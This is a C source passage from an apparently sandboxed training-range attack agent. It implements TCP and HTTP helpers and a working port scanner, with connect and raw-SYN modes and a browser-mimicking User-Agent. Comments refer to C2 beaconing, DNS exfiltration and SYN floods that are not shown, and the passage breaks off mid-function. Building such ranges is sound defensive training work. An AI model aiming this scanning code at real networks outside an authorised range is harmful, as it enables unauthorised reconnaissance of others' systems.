/* agent_act_net: the attacker actions that put real traffic on the team's
 * LAN (agents/PROTOCOL.md, "Actions"), and the implant that beacons.
 *
 * Every function runs in the `--run-action` child (or in the implant
 * daemon), so blocking code is fine; every loop is bounded by the table's
 * limits (count, rate, bytes, duration) and by act_stop_at().  Traffic only
 * goes to addresses inside 198.18.0.0/15 (act_req_parse checked the target,
 * the C2 and any proxy; the functions here check again before a socket is
 * opened), from the host's own address: nothing is spoofed and nothing
 * listens, except the raw socket a SYN scan or SYN flood reads replies on
 * while it runs.
 */
#include "agent_action.h"

#include <arpa/inet.h>
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <linux/tcp.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <poll.h>
#include <pty.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stddef.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "proto.h"

#define SEC 1000LL
#define HOUR (3600 * SEC)

/* Looks like an ordinary browser in the logs trainees read. */
#define ACT_USER_AGENT "Mozilla/5.0 (Windows NT 10.0; Win64; x64) " \
                       "AppleWebKit/537.36 (KHTML, like Gecko) " \
                       "Chrome/120.0 Safari/537.36"
#define CONNECT_TIMEOUT_MS 5000
#define IO_TIMEOUT_MS 10000
/* Response bodies read at most (the rest is not waited for). */
#define HTTP_MAX_BODY (16LL * 1024 * 1024)
#define HTTP_MAX_HEAD 16384
/* Evidence port lists are cut here (counts stay), so that a result always
 * fits the agent's 256 KiB limit on a child's output. */
#define EVIDENCE_LIST_MAX 256
#define EVIDENCE_OPEN_MAX 4096
#define SCAN_MAX_INFLIGHT 256
#define FLOOD_MAX_INFLIGHT 256
#define IMPLANT_MAX_MS (8 * HOUR)
#define DNS_EXFIL_QPS 500

/* ---- small utilities ----------------------------------------------------- */

typedef struct rng {
    uint64_t s;
} rng;

static uint64_t splitmix(uint64_t *x)
{
    uint64_t z = (*x += 0x9E3779B97F4A7C15ULL);

    z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ULL;
    z = (z ^ (z >> 27)) * 0x94D049BB133111EBULL;
    return z ^ (z >> 31);
}

/* Reproducible per (seed, purpose): the same request sends the same
 * ports, sequence numbers and filler. */
static void rng_seed(rng *g, uint64_t seed, const char *salt)
{
    uint64_t h = 1469598103934665603ULL;

    for (; salt && *salt; salt++)
        h = (h ^ (unsigned char)*salt) * 1099511628211ULL;
    h ^= seed;
    g->s = splitmix(&h);
    if (g->s == 0)
        g->s = 1;
}

static uint64_t rng_next(rng *g)
{
    g->s ^= g->s >> 12;
    g->s ^= g->s << 25;
    g->s ^= g->s >> 27;
    return g->s * 2685821657736338717ULL;
}

static uint32_t rng_below(rng *g, uint32_t n)
{
    return n ? (uint32_t)(rng_next(g) % n) : 0;
}

static void sleep_until(long long t)
{
    long long now;

    while ((now = act_now_ms()) < t) {
        struct timespec ts = {(t - now) / 1000, ((t - now) % 1000) * 1000000L};
        if (nanosleep(&ts, NULL) < 0 && errno != EINTR)
            return;
    }
}

static long long min_ll(long long a, long long b)
{
    return a < b ? a : b;
}

/* Printable ASCII only, for evidence and details (JSON wants UTF-8). */
static void sanitize(const char *in, size_t n, char *out, size_t outlen)
{
    size_t i, o = 0;

    for (i = 0; i < n && o + 1 < outlen; i++) {
        unsigned char c = (unsigned char)in[i];
        out[o++] = (c >= 0x20 && c < 0x7f) ? (char)c : (c == '\n' ? '\n' : '.');
    }
    out[o] = '\0';
}

static const char b64chars[] =
    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

/* Base64 of n bytes into out (4 * ceil(n / 3) + 1 bytes). */
static void b64_encode(const unsigned char *in, size_t n, char *out)
{
    size_t i, o = 0;

    for (i = 0; i + 2 < n; i += 3) {
        out[o++] = b64chars[in[i] >> 2];
        out[o++] = b64chars[((in[i] & 3) << 4) | (in[i + 1] >> 4)];
        out[o++] = b64chars[((in[i + 1] & 15) << 2) | (in[i + 2] >> 6)];
        out[o++] = b64chars[in[i + 2] & 63];
    }
    if (i < n) {
        out[o++] = b64chars[in[i] >> 2];
        if (i + 1 < n) {
            out[o++] = b64chars[((in[i] & 3) << 4) | (in[i + 1] >> 4)];
            out[o++] = b64chars[(in[i + 1] & 15) << 2];
        } else {
            out[o++] = b64chars[(in[i] & 3) << 4];
            out[o++] = '=';
        }
        out[o++] = '=';
    }
    out[o] = '\0';
}

/* Percent-encoding of everything but RFC 3986's unreserved characters. */
static void url_encode(const char *in, char *out, size_t outlen)
{
    static const char hex[] = "0123456789ABCDEF";
    size_t o = 0;

    for (; *in && o + 4 < outlen; in++) {
        unsigned char c = (unsigned char)*in;
        if (isalnum(c) || c == '-' || c == '_' || c == '.' || c == '~') {
            out[o++] = (char)c;
        } else {
            out[o++] = '%';
            out[o++] = hex[c >> 4];
            out[o++] = hex[c & 15];
        }
    }
    out[o] = '\0';
}

/* A host name usable as a DNS label and in a URL query. */
static void host_id(char *out, size_t len)
{
    char h[256];
    size_t i, o = 0;

    if (gethostname(h, sizeof(h) - 1) < 0)
        h[0] = '\0';
    h[sizeof(h) - 1] = '\0';
    for (i = 0; h[i] && o + 1 < len && o < 63; i++) {
        unsigned char c = (unsigned char)tolower((unsigned char)h[i]);
        if (isalnum(c) || c == '-')
            out[o++] = (char)c;
    }
    if (o == 0 && len > 4)
        o = (size_t)snprintf(out, len, "host");
    out[o] = '\0';
}

static int sa_make(const char *addr, int port, struct sockaddr_in *sa)
{
    memset(sa, 0, sizeof(*sa));
    sa->sin_family = AF_INET;
    sa->sin_port = htons((uint16_t)port);
    /* The last line of defence: nothing leaves for outside the range. */
    if (!proto_addr_in_range(addr) ||
        inet_pton(AF_INET, addr, &sa->sin_addr) != 1) {
        errno = EPERM;
        return -1;
    }
    return 0;
}

static const char *errname(int e)
{
    const char *n = strerrorname_np(e);

    return n ? n : "error";
}

/* The address the kernel would send from towards dst: a connected UDP
 * socket picks the route without sending anything. */
static int route_src(const struct sockaddr_in *dst, struct sockaddr_in *src)
{
    socklen_t sl = sizeof(*src);
    int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0), rc = -1;

    if (fd < 0)
        return -1;
    if (connect(fd, (const struct sockaddr *)dst, sizeof(*dst)) == 0 &&
        getsockname(fd, (struct sockaddr *)src, &sl) == 0)
        rc = 0;
    close(fd);
    return rc;
}

/* "ADDR:PORT" (already checked by act_req_parse). */
static int hostport_split(const char *s, char *host, size_t hlen, int *port)
{
    const char *c = s ? strrchr(s, ':') : NULL;

    if (c == NULL || (size_t)(c - s) >= hlen)
        return -1;
    memcpy(host, s, (size_t)(c - s));
    host[c - s] = '\0';
    *port = atoi(c + 1);
    return (*port >= 1 && *port <= 65535) ? 0 : -1;
}

/* ---- TCP connections ----------------------------------------------------- */

typedef struct net_conn {
    int fd;
    char src[INET_ADDRSTRLEN];
    int sport;
    char dst[INET_ADDRSTRLEN];
    int dport;
    long long tx, rx;    /* payload bytes */
    long long packets;   /* segments both ways, from TCP_INFO at close */
    int err;             /* errno of the last failure */
    char in[8192];       /* read buffer for lines */
    size_t in_off, in_len;
} net_conn;

static void conn_init(net_conn *c)
{
    memset(c, 0, sizeof(*c));
    c->fd = -1;
}

static void conn_names(net_conn *c)
{
    struct sockaddr_in sa;
    socklen_t sl = sizeof(sa);

    if (getsockname(c->fd, (struct sockaddr *)&sa, &sl) == 0) {
        inet_ntop(AF_INET, &sa.sin_addr, c->src, sizeof(c->src));
        c->sport = ntohs(sa.sin_port);
    }
}

/* Starts a non-blocking connect; 0 in progress or done, -1 failed. */
static int conn_start(net_conn *c, const char *addr, int port)
{
    struct sockaddr_in sa;

    snprintf(c->dst, sizeof(c->dst), "%s", addr);
    c->dport = port;
    if (sa_make(addr, port, &sa) < 0) {
        c->err = errno;
        return -1;
    }
    c->fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    if (c->fd < 0) {
        c->err = errno;
        return -1;
    }
    if (connect(c->fd, (struct sockaddr *)&sa, sizeof(sa)) < 0 &&
        errno != EINPROGRESS) {
        c->err = errno;
        conn_names(c);
        return -1;
    }
    conn_names(c);
    return 0;
}

/* Waits for fd to become ready for ev until `until`; 1 ready, 0 timeout. */
static int wait_fd(int fd, short ev, long long until)
{
    for (;;) {
        struct pollfd p = {.fd = fd, .events = ev};
        long long left = until - act_now_ms();
        int n;
        if (left <= 0)
            return 0;
        n = poll(&p, 1, (int)min_ll(left, 1000));
        if (n > 0)
            return 1;
        if (n < 0 && errno != EINTR)
            return 1; /* let the call that follows report it */
    }
}

static int conn_open(net_conn *c, const char *addr, int port, long long until)
{
    int e = 0;
    socklen_t el = sizeof(e);

    if (conn_start(c, addr, port) < 0)
        return -1;
    if (!wait_fd(c->fd, POLLOUT, min_ll(until, act_now_ms() +
                                        CONNECT_TIMEOUT_MS))) {
        c->err = ETIMEDOUT;
        return -1;
    }
    if (getsockopt(c->fd, SOL_SOCKET, SO_ERROR, &e, &el) < 0)
        e = errno;
    if (e != 0) {
        c->err = e;
        return -1;
    }
    return 0;
}

static int conn_send(net_conn *c, const void *buf, size_t len, long long until)
{
    const char *p = buf;

    while (len > 0) {
        ssize_t n = send(c->fd, p, len, MSG_NOSIGNAL);
        if (n > 0) {
            p += n;
            len -= (size_t)n;
            c->tx += n;
            continue;
        }
        if (n < 0 && errno == EINTR)
            continue;
        if (n < 0 && (errno == EAGAIN || errno == EWOULDBLOCK)) {
            if (!wait_fd(c->fd, POLLOUT, until)) {
                c->err = ETIMEDOUT;
                return -1;
            }
            continue;
        }
        c->err = n < 0 ? errno : EPIPE;
        return -1;
    }
    return 0;
}

static int conn_sendf(net_conn *c, long long until, const char *fmt, ...)
    __attribute__((format(printf, 3, 4)));

static int conn_sendf(net_conn *c, long long until, const char *fmt, ...)
{
    char buf[2048];
    va_list ap;
    int n;

    va_start(ap, fmt);
    n = vsnprintf(buf, sizeof(buf), fmt, ap);
    va_end(ap);
    if (n < 0 || (size_t)n >= sizeof(buf)) {
        c->err = EMSGSIZE;
        return -1;
    }
    return conn_send(c, buf, (size_t)n, until);
}

/* One read into buf (the line buffer first).  >0 bytes, 0 end of stream,
 * -1 error or timeout. */
static ssize_t conn_read(net_conn *c, void *buf, size_t len, long long until)
{
    ssize_t n;

    if (c->in_off < c->in_len) {
        size_t k = min_ll((long long)len, (long long)(c->in_len - c->in_off));
        memcpy(buf, c->in + c->in_off, k);
        c->in_off += k;
        return (ssize_t)k;
    }
    for (;;) {
        n = recv(c->fd, buf, len, 0);
        if (n >= 0) {
            c->rx += n;
            return n;
        }
        if (errno == EINTR)
            continue;
        if (errno != EAGAIN && errno != EWOULDBLOCK) {
            c->err = errno;
            return -1;
        }
        if (!wait_fd(c->fd, POLLIN, until)) {
            c->err = ETIMEDOUT;
            return -1;
        }
    }
}

/* One line without its CR LF.  Returns its length, or -1 (error, timeout,
 * end of stream before a line). */
static int conn_line(net_conn *c, char *line, size_t len, long long until)
{
    size_t o = 0;

    for (;;) {
        while (c->in_off < c->in_len) {
            char ch = c->in[c->in_off++];
            if (ch == '\n') {
                while (o > 0 && line[o - 1] == '\r')
                    o--;
                line[o] = '\0';
                return (int)o;
            }
            if (o + 1 < len)
                line[o++] = ch;
        }
        c->in_off = c->in_len = 0;
        for (;;) {
            ssize_t n = recv(c->fd, c->in, sizeof(c->in), 0);
            if (n > 0) {
                c->rx += n;
                c->in_len = (size_t)n;
                break;
            }
            if (n == 0) {
                c->err = ECONNRESET;
                return -1;
            }
            if (errno == EINTR)
                continue;
            if (errno != EAGAIN && errno != EWOULDBLOCK) {
                c->err = errno;
                return -1;
            }
            if (!wait_fd(c->fd, POLLIN, until)) {
                c->err = ETIMEDOUT;
                return -1;
            }
        }
    }
}

/* An SMTP/FTP reply: reads continuation lines ("250-…") up to the final
 * one and returns its code, the final line in text; -1 on error. */
static int conn_reply(net_conn *c, char *text, size_t len, long long until)
{
    char line[1024];
    int i, n;

    for (i = 0; i < 100; i++) {
        n = conn_line(c, line, sizeof(line), until);
        if (n < 0)
            return -1;
        if (n >= 3 && isdigit((unsigned char)line[0]) &&
            isdigit((unsigned char)line[1]) &&
            isdigit((unsigned char)line[2]) && (n == 3 || line[3] == ' ')) {
            if (text != NULL)
                sanitize(line, (size_t)n, text, len);
            return atoi(line);
        }
    }
    c->err = EPROTO;
    return -1;
}

/* Closes c and records it as a flow (segments from TCP_INFO). */
static void conn_close(net_conn *c, act_result *r)
{
    struct tcp_info ti;
    socklen_t tl = sizeof(ti);

    if (c->fd >= 0) {
        memset(&ti, 0, sizeof(ti));
        if (getsockopt(c->fd, IPPROTO_TCP, TCP_INFO, &ti, &tl) == 0 &&
            tl >= offsetof(struct tcp_info, tcpi_segs_in) +
                      sizeof(ti.tcpi_segs_in))
            c->packets = (long long)ti.tcpi_segs_out + ti.tcpi_segs_in;
        else
            c->packets = 1;
        close(c->fd);
        c->fd = -1;
        if (r != NULL)
            act_flow_add(r, "tcp", c->src, c->sport, c->dst, c->dport,
                         c->packets, c->tx + c->rx);
    }
}

/* ---- HTTP client --------------------------------------------------------- */

typedef int (*http_sink)(void *ctx, const char *buf, size_t len);

typedef struct http_resp {
    int status;
    char server[64];     /* Server: header, for telling a proxy's own answers */
    long long body;      /* body bytes received */
    int complete;        /* the whole body arrived */
    int truncated;       /* stopped at the caller's limit */
    char *keep;          /* first bytes of the body, NUL-terminated */
    size_t keep_len, keep_cap;
} http_resp;

static void http_resp_free(http_resp *h)
{
    if (h != NULL)
        free(h->keep);
}

static int http_body_chunk(http_resp *h, const char *buf, size_t n,
                           long long max_body, http_sink sink, void *ctx)
{
    if (h->body + (long long)n > max_body) {
        n = (size_t)(max_body - h->body);
        h->truncated = 1;
    }
    if (h->keep_len < h->keep_cap) {
        size_t k = min_ll((long long)n, (long long)(h->keep_cap - h->keep_len));
        memcpy(h->keep + h->keep_len, buf, k);
        h->keep_len += k;
        h->keep[h->keep_len] = '\0';
    }
    h->body += (long long)n;
    if (sink != NULL && n > 0 && sink(ctx, buf, n) < 0)
        return -1;
    return h->truncated ? -1 : 0;
}

/* Reads a response: status line, headers, then the body (Content-Length,
 * chunked, or up to the close), keeping `keep` bytes of it and handing all
 * of it to sink.  Returns 0 when a status line arrived (h->complete tells
 * whether the body did), -1 otherwise. */
static int http_read(net_conn *c, http_resp *h, size_t keep,
                     long long max_body, http_sink sink, void *ctx,
                     long long until)
{
    char line[1024], buf[16384];
    long long clen = -1, left;
    size_t head = 0;
    int chunked = 0, n;

    memset(h, 0, sizeof(*h));
    h->keep = malloc(keep + 1);
    if (h->keep == NULL)
        return -1;
    h->keep_cap = keep;
    h->keep[0] = '\0';
    n = conn_line(c, line, sizeof(line), until);
    if (n < 0)
        return -1;
    if (strncmp(line, "HTTP/", 5) != 0 || strchr(line, ' ') == NULL) {
        c->err = EPROTO;
        return -1;
    }
    h->status = atoi(strchr(line, ' ') + 1);
    if (h->status < 100 || h->status > 999) {
        c->err = EPROTO;
        return -1;
    }
    for (;;) {
        n = conn_line(c, line, sizeof(line), until);
        if (n < 0)
            return 0; /* headers cut short: the status still counts */
        head += (size_t)n + 2;
        if (n == 0)
            break;
        if (head > HTTP_MAX_HEAD)
            return 0;
        if (strncasecmp(line, "Content-Length:", 15) == 0)
            clen = atoll(line + 15);
        else if (strncasecmp(line, "Transfer-Encoding:", 18) == 0 &&
                 strstr(line + 18, "chunked") != NULL)
            chunked = 1;
        else if (strncasecmp(line, "Server:", 7) == 0)
            sanitize(line + 7 + strspn(line + 7, " "),
                     strlen(line + 7 + strspn(line + 7, " ")), h->server,
                     sizeof(h->server));
    }
    if (h->status == 204 || h->status == 304 || h->status < 200) {
        h->complete = 1;
        return 0;
    }
    if (chunked) {
        for (;;) {
            if (conn_line(c, line, sizeof(line), until) < 0)
                return 0;
            left = strtoll(line, NULL, 16);
            if (left <= 0)
                break;
            while (left > 0) {
                ssize_t r = conn_read(c, buf, min_ll(left, sizeof(buf)), until);
                if (r <= 0)
                    return 0;
                left -= r;
                if (http_body_chunk(h, buf, (size_t)r, max_body, sink, ctx) < 0)
                    return 0;
            }
            if (conn_line(c, line, sizeof(line), until) < 0)
                return 0;
        }
        h->complete = 1;
        return 0;
    }
    left = clen;
    while (clen < 0 || left > 0) {
        ssize_t r = conn_read(c, buf, clen < 0 ? sizeof(buf) :
                              (size_t)min_ll(left, sizeof(buf)), until);
        if (r == 0 && clen < 0) {
            h->complete = 1;
            return 0;
        }
        if (r <= 0)
            return 0;
        if (clen >= 0)
            left -= r;
        if (http_body_chunk(h, buf, (size_t)r, max_body, sink, ctx) < 0)
            return 0;
    }
    h->complete = 1;
    return 0;
}

/* A response that came from the proxy itself rather than from the server
 * behind it: tinyproxy's refusals (403 Filtered, 5xx when it cannot
 * connect) name it in Server:. */
static int http_from_proxy(const http_resp *h, int via_proxy)
{
    if (!via_proxy)
        return 0;
    if (strncasecmp(h->server, "tinyproxy", 9) == 0)
        return 1;
    return h->status == 403 || h->status == 407 || h->status >= 500;
}

/* The start of a request to host:port/path, direct or through a proxy
 * (absolute-form request line, as a browser configured for a proxy sends
 * it).  `name` goes into Host: and the absolute URI. */
static void http_request_line(char *out, size_t len, const char *method,
                              const char *name, int port, const char *path,
                              int via_proxy)
{
    char hostport[300];

    if (port == 80)
        snprintf(hostport, sizeof(hostport), "%s", name);
    else
        snprintf(hostport, sizeof(hostport), "%s:%d", name, port);
    if (via_proxy)
        snprintf(out, len, "%s http://%s%s HTTP/1.1\r\nHost: %s\r\n", method,
                 hostport, path, hostport);
    else
        snprintf(out, len, "%s %s HTTP/1.1\r\nHost: %s\r\n", method, path,
                 hostport);
}

/* ---- recon.portscan ------------------------------------------------------ */

enum { PORT_PENDING, PORT_OPEN, PORT_CLOSED, PORT_FILTERED };

/* The distinct ports of a spec such as "22,80,8000-8100" (checked by the
 * table). */
static int *ports_expand(const char *spec, size_t *n)
{
    int64_t count = action_ports_count(spec);
    unsigned char *seen = NULL;
    int *out = NULL;
    size_t k = 0;
    const char *s = spec;

    if (count <= 0 || count > 65535)
        return NULL;
    out = malloc((size_t)count * sizeof(*out));
    seen = calloc(65536, 1);
    if (out == NULL || seen == NULL) {
        free(out);
        free(seen);
        return NULL;
    }
    while (*s && k < (size_t)count) {
        char *end = NULL;
        long lo = strtol(s, &end, 10), hi = lo, p;
        s = end;
        if (*s == '-') {
            hi = strtol(s + 1, &end, 10);
            s = end;
        }
        for (p = lo; p <= hi && p <= 65535 && k < (size_t)count; p++) {
            if (!seen[p])
                out[k++] = (int)p;
            seen[p] = 1;
        }
        if (*s == ',')
            s++;
        else if (*s != '\0')
            break;
    }
    free(seen);
    *n = k;
    return out;
}

static int cmp_int(const void *a, const void *b)
{
    return *(const int *)a - *(const int *)b;
}

/* Connect scan: full handshakes at `rate` per second, up to
 * SCAN_MAX_INFLIGHT at once, each given `timeout` ms. */
static void scan_connect(const act_req *q, act_result *r, const int *ports,
                         size_t n, char *state, long long rate,
                         long long timeout, long long stop_at, size_t *sent)
{
    struct {
        net_conn c;
        size_t idx;
        long long end;
    } *fl = NULL;
    struct pollfd pfd[SCAN_MAX_INFLIGHT];
    size_t next = 0, nfl = 0, i;
    long long t0 = act_now_ms();

    fl = calloc(SCAN_MAX_INFLIGHT, sizeof(*fl));
    if (fl == NULL)
        return;
    while (next < n || nfl > 0) {
        long long now = act_now_ms(), wake;
        /* Launch what is due. */
        while (next < n && nfl < SCAN_MAX_INFLIGHT && now < stop_at &&
               now >= t0 + (long long)next * 1000 / rate) {
            net_conn *c = &fl[nfl].c;
            conn_init(c);
            if (conn_start(c, q->target_addr, ports[next]) < 0) {
                state[next] = (c->err == ECONNREFUSED) ? PORT_CLOSED :
                                                         PORT_FILTERED;
                conn_close(c, r);
            } else {
                fl[nfl].idx = next;
                fl[nfl].end = now + timeout;
                nfl++;
            }
            next++;
        }
        *sent = next;
        if (now >= stop_at)
            next = n; /* out of time: launch nothing more */
        if (nfl == 0 && next >= n)
            break;
        wake = now + 1000;
        if (next < n)
            wake = min_ll(wake, t0 + (long long)next * 1000 / rate);
        for (i = 0; i < nfl; i++) {
            pfd[i].fd = fl[i].c.fd;
            pfd[i].events = POLLOUT;
            pfd[i].revents = 0;
            wake = min_ll(wake, fl[i].end);
        }
        if (nfl > 0 || wake > now)
            poll(pfd, nfl, wake > now ? (int)(wake - now) : 0);
        now = act_now_ms();
        for (i = 0; i < nfl;) {
            int e = 0, done = 0;
            socklen_t el = sizeof(e);
            if (pfd[i].revents != 0) {
                getsockopt(fl[i].c.fd, SOL_SOCKET, SO_ERROR, &e, &el);
                state[fl[i].idx] = e == 0 ? PORT_OPEN :
                                   e == ECONNREFUSED ? PORT_CLOSED :
                                                       PORT_FILTERED;
                done = 1;
            } else if (now >= fl[i].end || now >= stop_at) {
                state[fl[i].idx] = PORT_FILTERED;
                done = 1;
            }
            if (!done) {
                i++;
                continue;
            }
            conn_close(&fl[i].c, r);
            /* Keep the arrays dense: move the last one here. */
            nfl--;
            fl[i] = fl[nfl];
            pfd[i] = pfd[nfl];
        }
    }
    free(fl);
}

/* TCP header as sent on the wire (no options but MSS). */
struct act_tcphdr {
    uint16_t sport, dport;
    uint32_t seq, ack;
    uint8_t off, flags;
    uint16_t win, sum, urg;
    uint8_t opt[4];
};

#define TH_FIN 0x01
#define TH_SYN 0x02
#define TH_RST 0x04
#define TH_ACK 0x10

static uint16_t tcp_checksum(uint32_t src, uint32_t dst, const void *seg,
                             size_t len)
{
    const uint8_t *p = seg;
    uint32_t sum = 0;
    size_t i;

    sum += (src >> 16) + (src & 0xffff) + (dst >> 16) + (dst & 0xffff);
    sum += IPPROTO_TCP + (uint32_t)len;
    for (i = 0; i + 1 < len; i += 2)
        sum += (uint32_t)(p[i] << 8 | p[i + 1]);
    if (len & 1)
        sum += (uint32_t)p[len - 1] << 8;
    while (sum >> 16)
        sum = (sum & 0xffff) + (sum >> 16);
    return htons((uint16_t)~sum);
}

/* A raw TCP socket bound to our own address and connected to the target:
 * the kernel writes the IP header with that source (nothing spoofed), and
 * only the target's packets are read back. */
static int raw_open(const char *addr, struct sockaddr_in *dst,
                    struct sockaddr_in *src, char *err, size_t errlen)
{
    int fd;

    if (sa_make(addr, 0, dst) < 0 || route_src(dst, src) < 0) {
        snprintf(err, errlen, "no route to %s: %s", addr, strerror(errno));
        return -1;
    }
    fd = socket(AF_INET, SOCK_RAW | SOCK_NONBLOCK | SOCK_CLOEXEC, IPPROTO_TCP);
    if (fd < 0) {
        snprintf(err, errlen, "raw socket: %s", strerror(errno));
        return -1;
    }
    src->sin_port = 0;
    if (bind(fd, (struct sockaddr *)src, sizeof(*src)) < 0 ||
        connect(fd, (struct sockaddr *)dst, sizeof(*dst)) < 0) {
        snprintf(err, errlen, "raw socket: %s", strerror(errno));
        close(fd);
        return -1;
    }
    return fd;
}

static int syn_send(int fd, const struct sockaddr_in *src,
                    const struct sockaddr_in *dst, int sport, int dport,
                    uint32_t seq)
{
    struct act_tcphdr th;

    memset(&th, 0, sizeof(th));
    th.sport = htons((uint16_t)sport);
    th.dport = htons((uint16_t)dport);
    th.seq = htonl(seq);
    th.off = (sizeof(th) / 4) << 4;
    th.flags = TH_SYN;
    th.win = htons(64240);
    th.opt[0] = 2; /* MSS 1460, as a real stack's SYN carries */
    th.opt[1] = 4;
    th.opt[2] = 0x05;
    th.opt[3] = 0xb4;
    th.sum = tcp_checksum(ntohl(src->sin_addr.s_addr),
                          ntohl(dst->sin_addr.s_addr), &th, sizeof(th));
    return send(fd, &th, sizeof(th), 0) == (ssize_t)sizeof(th) ? 0 : -1;
}

/* Reads one TCP packet from a raw socket: source and destination ports,
 * flags.  Returns 1, 0 when nothing is waiting. */
static int raw_recv(int fd, int *sport, int *dport, int *flags)
{
    unsigned char buf[1500];
    ssize_t n;
    size_t ihl;

    for (;;) {
        n = recv(fd, buf, sizeof(buf), 0);
        if (n < 0 && errno == EINTR)
            continue;
        if (n < 0)
            return 0;
        ihl = (size_t)(buf[0] & 15) * 4;
        if (n < 20 || ihl < 20 || (size_t)n < ihl + 14 ||
            buf[9] != IPPROTO_TCP)
            continue; /* not a TCP segment we can read: skip it */
        *sport = buf[ihl] << 8 | buf[ihl + 1];
        *dport = buf[ihl + 2] << 8 | buf[ihl + 3];
        *flags = buf[ihl + 13];
        return 1;
    }
}

/* SYN scan: one SYN per port from a fixed source port; a SYN-ACK means
 * open (our kernel answers it with a RST, having no socket there), a RST
 * closed, silence filtered. */
static int scan_syn(const act_req *q, act_result *r, const int *ports,
                    size_t n, char *state, long long rate, long long timeout,
                    long long stop_at, size_t *sent)
{
    struct sockaddr_in src, dst;
    char srcs[INET_ADDRSTRLEN], err[256];
    long long *pk = NULL, t0, last = 0;
    size_t next = 0, i;
    int fd, sport, *where = NULL;
    uint32_t seq;
    rng g;

    fd = raw_open(q->target_addr, &dst, &src, err, sizeof(err));
    if (fd < 0) {
        act_detail(r, "SYN scan: %s", err);
        return -1;
    }
    pk = calloc(n, sizeof(*pk));
    /* Port -> index, so a reply is matched in constant time. */
    where = malloc(65536 * sizeof(*where));
    if (pk == NULL || where == NULL) {
        free(pk);
        free(where);
        close(fd);
        act_detail(r, "out of memory");
        return -1;
    }
    for (i = 0; i < 65536; i++)
        where[i] = -1;
    for (i = 0; i < n; i++)
        where[ports[i]] = (int)i;
    inet_ntop(AF_INET, &src.sin_addr, srcs, sizeof(srcs));
    rng_seed(&g, q->seed, "syn-scan");
    sport = 33000 + (int)rng_below(&g, 27000);
    seq = (uint32_t)rng_next(&g);
    t0 = act_now_ms();
    for (;;) {
        long long now = act_now_ms(), wake;
        struct pollfd p = {.fd = fd, .events = POLLIN};
        int sp, dp, fl;
        while (next < n && now < stop_at &&
               now >= t0 + (long long)next * 1000 / rate) {
            if (syn_send(fd, &src, &dst, sport, ports[next], seq) == 0)
                pk[next]++;
            last = now;
            next++;
        }
        *sent = next;
        if (now >= stop_at || (next >= n && now >= last + timeout))
            break;
        wake = next < n ? t0 + (long long)next * 1000 / rate : last + timeout;
        wake = min_ll(wake, stop_at);
        poll(&p, 1, wake > now ? (int)(wake - now) : 0);
        while (raw_recv(fd, &sp, &dp, &fl) == 1) {
            int k = where[sp & 0xffff];
            if (dp != sport || k < 0 || (size_t)k >= next ||
                state[k] != PORT_PENDING)
                continue;
            if ((fl & (TH_SYN | TH_ACK)) == (TH_SYN | TH_ACK))
                state[k] = PORT_OPEN;
            else if (fl & TH_RST)
                state[k] = PORT_CLOSED;
            pk[k]++;
        }
    }
    for (i = 0; i < next; i++) {
        if (state[i] == PORT_PENDING)
            state[i] = PORT_FILTERED;
        act_flow_add(r, "tcp", srcs, sport, q->target_addr, ports[i], pk[i], 0);
    }
    free(pk);
    free(where);
    close(fd);
    return 0;
}

static void port_list(json_t *ev, const char *key, const int *ports,
                      const char *state, size_t n, int want, size_t cap,
                      size_t *count)
{
    json_t *a = json_array();
    int *sorted = malloc((n ? n : 1) * sizeof(int));
    size_t i, k = 0;

    *count = 0;
    if (a == NULL || sorted == NULL) {
        json_decref(a);
        free(sorted);
        return;
    }
    for (i = 0; i < n; i++)
        if (state[i] == want)
            sorted[k++] = ports[i];
    qsort(sorted, k, sizeof(int), cmp_int);
    for (i = 0; i < k && i < cap; i++)
        json_array_append_new(a, json_integer(sorted[i]));
    *count = k;
    json_object_set_new(ev, key, a);
    free(sorted);
}

int act_recon_portscan(const act_req *q, act_result *r)
{
    const char *mode = act_param_str(q, "mode", "connect");
    long long rate = act_param_int(q, "rate", 100);
    long long timeout = act_param_ms(q, "timeout", 1000);
    long long stop_at = act_stop_at(q);
    size_t n = 0, sent = 0, nopen, nclosed, nfilt, i;
    int *ports = NULL, rc = -1;
    char *state = NULL, list[256];
    json_t *open = NULL;
    rng g;

    ports = ports_expand(act_param_str(q, "ports", ""), &n);
    state = calloc(n ? n : 1, 1);
    if (ports == NULL || state == NULL) {
        act_detail(r, "bad port list or out of memory");
        goto cleanup;
    }
    /* Scanners shuffle the order; the seed makes it reproducible. */
    rng_seed(&g, q->seed, "portscan");
    for (i = n; i > 1; i--) {
        size_t j = rng_below(&g, (uint32_t)i);
        int t = ports[i - 1];
        ports[i - 1] = ports[j];
        ports[j] = t;
    }
    if (strcmp(mode, "syn") == 0) {
        if (scan_syn(q, r, ports, n, state, rate, timeout, stop_at, &sent) < 0)
            goto cleanup;
    } else {
        scan_connect(q, r, ports, n, state, rate, timeout, stop_at, &sent);
    }
    port_list(r->evidence, "open", ports, state, n, PORT_OPEN,
              EVIDENCE_OPEN_MAX, &nopen);
    port_list(r->evidence, "closed", ports, state, n, PORT_CLOSED,
              EVIDENCE_LIST_MAX, &nclosed);
    port_list(r->evidence, "filtered", ports, state, n, PORT_FILTERED,
              EVIDENCE_LIST_MAX, &nfilt);
    json_object_set_new(r->evidence, "mode", json_string(mode));
    json_object_set_new(r->evidence, "ports", json_integer((json_int_t)n));
    json_object_set_new(r->evidence, "probed", json_integer((json_int_t)sent));
    json_object_set_new(r->evidence, "open_count",
                        json_integer((json_int_t)nopen));
    json_object_set_new(r->evidence, "closed_count",
                        json_integer((json_int_t)nclosed));
    json_object_set_new(r->evidence, "filtered_count",
                        json_integer((json_int_t)nfilt));
    list[0] = '\0';
    open = json_object_get(r->evidence, "open");
    for (i = 0; i < json_array_size(open) && strlen(list) < 200; i++)
        snprintf(list + strlen(list), sizeof(list) - strlen(list), "%s%lld",
                 i ? "," : "", (long long)json_integer_value(
                                   json_array_get(open, i)));
    r->succeeded = nopen > 0;
